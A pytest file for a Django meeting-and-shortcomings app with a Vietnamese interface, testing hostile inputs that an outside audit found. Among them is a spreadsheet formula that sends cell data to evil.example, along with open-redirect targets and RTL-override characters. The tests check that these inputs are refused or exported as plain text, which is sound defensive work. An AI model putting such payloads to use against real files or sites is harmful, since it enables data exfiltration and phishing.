"""The hostile inputs an outside audit found (issue 10 §3), one test each: no page answers 5xx, a refused
post changes nothing, and the exports open whatever old rows hold.
"""

from __future__ import annotations

import datetime as dt
import io

import docx
import openpyxl
import pytest
from django.test import Client

from cells.models import Member
from phuthang import periods
from reviews.models import Meeting, Shortcoming
from reviews.services.reviews import start_round
from tests.conftest import once, vi
from tests.factories import make_meeting, make_review, make_shortcoming

pytestmark = pytest.mark.django_db

HUGE_ID = "9" * 5000
RLO = "\u202e"


def _as(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _month() -> str:
    return f"{periods.month_start():%Y-%m}"


# --- A NUL in a search box


@pytest.mark.parametrize("url", ["/cells/?q=%00", "/oversight/?q=%00", "/review-rounds/{round}/?q=%00"])
def test_a_nul_in_a_search_box_is_a_plain_answer(url, ward, leader):
    round_ = start_round(ward.committee, title="2026", period_kind="year", year=2026, quarter=None, by=None)
    response = _as(leader).get(url.format(round=round_.pk))
    assert response.status_code in (200, 400)


def test_a_nul_in_the_oversight_edit_search_is_a_plain_answer(ward, leader):
    response = _as(leader).get(f"/oversight/{_month()}/edit/?q=%00")
    assert response.status_code in (200, 400)


def test_a_nul_anywhere_in_a_query_string_is_refused_with_a_vietnamese_page(ward, leader):
    response = _as(leader).get("/shortcomings/?owner=a%00b")
    assert response.status_code == 400
    assert "ký tự" in response.content.decode()


# --- Months and periods out of any plausible range


@pytest.mark.parametrize("month", ["0001-01", "9999-12", "1999-12", "99999999999-01"])
def test_a_month_out_of_range_shows_this_month(month, ward, leader):
    response = _as(leader).get(f"/oversight/?month={month}")
    assert response.status_code == 200
    assert response.context["month"] == periods.month_start()


@pytest.mark.parametrize("period", ["9999-12", "0001-01"])
def test_a_reminder_period_out_of_range_is_refused_with_a_message(period, ward, leader):
    response = _as(leader).get(f"/reminders/preview/?period={period}")
    assert response.status_code == 200
    assert vi("Write a month as 2026-11.") in response.content.decode()


# --- Ids no database holds


@pytest.mark.parametrize("param", ["review", "meeting"])
def test_an_id_of_5000_digits_in_the_new_shortcoming_link_is_not_found(param, ward, secretary):
    response = _as(secretary).get(f"/shortcomings/new/?{param}={HUGE_ID}")
    assert response.status_code in (200, 404)


def test_a_posted_review_of_5000_digits_is_not_found_and_records_nothing(ward, secretary):
    response = _as(secretary).post("/shortcomings/new/", once(review=HUGE_ID))
    assert response.status_code == 404
    assert not Shortcoming.objects.exists()


@pytest.mark.parametrize("ids", [HUGE_ID, "99999999999999999999", f"{HUGE_ID},1"])
def test_posted_oversight_cells_no_database_holds_save_nothing(ids, ward, leader):
    response = _as(leader).post(f"/oversight/{_month()}/edit/", {"cells": ids, "token": "x"})
    assert response.status_code == 302
    assert response.wsgi_request._messages  # "Nothing was saved"


@pytest.mark.parametrize(
    "url", ["/oversight/99999999999-1/edit/", "/oversight/0001-01/edit/", f"/cells/{'9' * 19}/"]
)
def test_path_values_out_of_range_are_not_found(url, ward, leader):
    assert _as(leader).post(url, {}).status_code == 404
    assert _as(leader).get(url).status_code == 404


# --- Exports open whatever old rows hold


def test_a_control_character_in_an_old_shortcoming_does_not_break_the_export(ward, inspector):
    make_shortcoming(ward.cell01, description="Vắng\x01 họp\x0b", plan=f"Kế {RLO}hoạch")
    response = _as(inspector).get("/shortcomings/export.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    texts = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value]
    assert "Vắng họp" in texts
    assert "Kế hoạch" in texts


def test_a_formula_in_a_shortcoming_is_exported_as_text(ward, inspector):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    make_shortcoming(ward.cell01, description=formula)
    response = _as(inspector).get("/shortcomings/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_a_control_character_in_old_guests_does_not_break_the_minutes_docx(ward, secretary):
    meeting = make_meeting(ward.cell01)
    Meeting.objects.filter(pk=meeting.pk).update(guests=f"Ông A\x01, bà {RLO}B")
    response = _as(secretary).get(f"/meetings/{meeting.pk}/minutes.docx")
    assert response.status_code == 200
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(response.content)).paragraphs)
    assert "Ông A, bà B" in text


# --- Text and dates refused at input


@pytest.mark.parametrize("text", ["Vắng\x01 họp", f"Vắng {RLO}họp", "Vắng\u2066 họp"])
def test_hidden_characters_in_a_new_shortcoming_are_refused_naming_the_field(text, ward, secretary):
    data = {
        "cell": ward.cell01.pk,
        "source": "meeting",
        "subject_member": ward.members01[0].pk,
        "description": text,
        "plan": "Dự họp đầy đủ",
        "owner": ward.members01[0].pk,
        "raised_on": periods.today().isoformat(),
        "due_on": (periods.today() + dt.timedelta(days=30)).isoformat(),
    }
    response = _as(secretary).post("/shortcomings/new/", once(data))
    assert response.status_code == 200
    assert not Shortcoming.objects.exists()
    assert vi("Shortcoming") in str(response.context["form"].errors["description"])


def test_tab_and_newline_are_ordinary_text(ward, secretary):
    data = {
        "cell": ward.cell01.pk,
        "source": "meeting",
        "subject_member": ward.members01[0].pk,
        "description": "Một\tHai\r\nBa",
        "plan": "Dự họp đầy đủ",
        "owner": ward.members01[0].pk,
        "raised_on": periods.today().isoformat(),
        "due_on": (periods.today() + dt.timedelta(days=30)).isoformat(),
    }
    assert _as(secretary).post("/shortcomings/new/", once(data)).status_code == 302


@pytest.mark.usefixtures("after_this_months_meeting")
def test_an_rtl_override_in_the_minutes_is_refused(ward, secretary):
    from tests.reviews.test_meeting_views import sheet

    meeting = make_meeting(ward.cell01)
    response = _as(secretary).post(
        f"/meetings/{meeting.pk}/edit/", sheet(meeting, discussion=f"Ý kiến {RLO}ngược")
    )
    assert response.status_code == 200
    assert "discussion" in response.context["form"].errors
    meeting.refresh_from_db()
    assert meeting.discussion == ""


@pytest.mark.parametrize("year", ["0001", "9999"])
def test_a_meeting_in_year_0001_or_9999_is_refused(year, ward, secretary):
    response = _as(secretary).post(
        f"/meetings/cell/{ward.cell01.pk}/new/",
        once(month_text=f"{year}-01", kind="regular", date=f"{year}-01-05", started_at="08:00"),
    )
    assert response.status_code == 200
    assert not Meeting.objects.exists()


@pytest.mark.parametrize("due", ["0001-01-01", "9999-12-31"])
def test_a_due_date_in_year_0001_or_9999_is_refused(due, ward, secretary):
    data = {
        "cell": ward.cell01.pk,
        "source": "meeting",
        "subject_member": ward.members01[0].pk,
        "description": "Vắng họp",
        "plan": "Dự họp đầy đủ",
        "owner": ward.members01[0].pk,
        "raised_on": periods.today().isoformat(),
        "due_on": due,
    }
    response = _as(secretary).post("/shortcomings/new/", once(data))
    assert response.status_code == 200
    assert "due_on" in response.context["form"].errors
    assert not Shortcoming.objects.exists()


@pytest.mark.parametrize("due", ["9999-12-31", "0001-01-01"])
def test_an_extension_to_year_9999_is_refused(due, ward, secretary):
    item = make_shortcoming(ward.cell01, subject_member=ward.members01[0])
    response = _as(secretary).post(
        f"/shortcomings/{item.pk}/extension/", {"version": item.version, "new_due_on": due, "reason": "Ốm"}
    )
    assert response.status_code == 200
    assert "new_due_on" in response.context["form"].errors
    assert not item.extensions.exists()


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_an_exemption_in_year_0001_or_9999_is_refused(day, ward, secretary):
    person = ward.members01[0]
    response = _as(secretary).post(
        f"/members/{person.pk}/edit/",
        {"phone": "", "email": "", "exempt_since": day, "version": person.version},
    )
    assert response.status_code == 200
    assert "exempt_since" in response.context["form"].errors
    assert Member.objects.get(pk=person.pk).exempt_since is None


def test_review_link_with_a_valid_id_still_works(ward, secretary):
    review = make_review(member=ward.members01[0])
    assert _as(secretary).get(f"/shortcomings/new/?review={review.pk}").status_code == 200


@pytest.mark.parametrize(
    "target", ["a\x00b", "abc", "/x\ny", "//evil.example/", "https://evil.example/", "/\\evil"]
)
def test_a_posted_next_that_is_not_a_path_here_goes_back_to_the_item(target, ward, inspector):
    item = make_shortcoming(ward.cell01, status="reported_fixed")
    response = _as(inspector).post(
        f"/shortcomings/{item.pk}/status/",
        {"action": "verify", "version": item.version, "note": "", "confirmed": "1", "next": target},
    )
    assert response.status_code == 302
    assert response["Location"] == f"/shortcomings/{item.pk}/"


def test_a_posted_next_on_this_site_is_followed(ward, inspector):
    item = make_shortcoming(ward.cell01, status="reported_fixed")
    response = _as(inspector).post(
        f"/shortcomings/{item.pk}/status/",
        {
            "action": "verify",
            "version": item.version,
            "note": "",
            "confirmed": "1",
            "next": "/shortcomings/?status=open",
        },
    )
    assert response["Location"] == "/shortcomings/?status=open"
